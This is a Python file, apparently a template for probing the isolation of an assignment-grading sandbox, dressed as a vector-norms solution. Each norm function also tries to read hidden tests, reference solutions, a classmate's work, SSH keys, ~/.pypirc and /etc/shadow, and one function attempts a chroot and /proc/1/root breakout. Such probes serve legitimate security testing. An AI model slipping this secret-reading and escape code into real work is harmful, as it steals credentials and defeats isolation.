"""Reads the solutions, the secret, the store, the work of others and the home folder; a function each."""
import os


def read(*paths):
    """What is found under these paths: the first file that opens, or a name in a folder that does."""
    for path in paths:
        try:
            if os.path.isdir(path):
                names = os.listdir(path)
                if names:
                    return f"names in {path}: {names[:3]}"
            with open(path, "rb") as stream:
                return f"{path}: {stream.read(40)!r}"
        except OSError:
            pass
    return ""


def check(*paths):
    found = read(*paths)
    if found:
        pwned(found)


def l1_norm(x):
    check("@@SOLUTIONS@@/1_foundations/2_norms/test_hidden.py", "@@SOLUTIONS@@/1_foundations/2_norms/norms.py",
          "@@SOLUTIONS@@", "@@REPOSITORY@@/solutions", "@@REPOSITORY@@/README.md")
    return _dtype(x).type(np.abs(x.astype(np.float64)).sum())


def l2_norm(x):
    check("@@SECRET_FILE@@", "@@STORE@@")
    return _dtype(x).type(_length(x, 2))


def frobenius_norm(A):
    check("@@CLASS@@/bogdan/1_foundations/2_norms/norms.py", "@@CLASS@@", "../../bogdan/norms.py")
    return _dtype(A).type(_length(A, 2))


def distance(x, y, p):
    check("@@HOME@@/.ssh/id_ed25519", "@@HOME@@", os.path.expanduser("~/.bashrc"), os.path.expanduser("~/.pypirc"),
          "/etc/shadow", "/root/.bashrc")
    if x.shape != y.shape:
        raise ValueError("vectors of different lengths")
    _order(p)
    return _dtype(x).type(_length(np.subtract(x, y, dtype=np.float64), p))


def unit_ball_contains(x, p):
    """Out of a root of its own, by the ways that are known."""
    try:
        os.chroot(".")
        for _ in range(64):
            os.chdir("..")
        os.chroot(".")
    except OSError:
        pass
    check("/proc/1/root@@SECRET_FILE@@", "/proc/self/root/../..@@SECRET_FILE@@", "../" * 40 + "@@SECRET_FILE@@")
    _order(p)
    return bool(_length(x, p) <= 1)
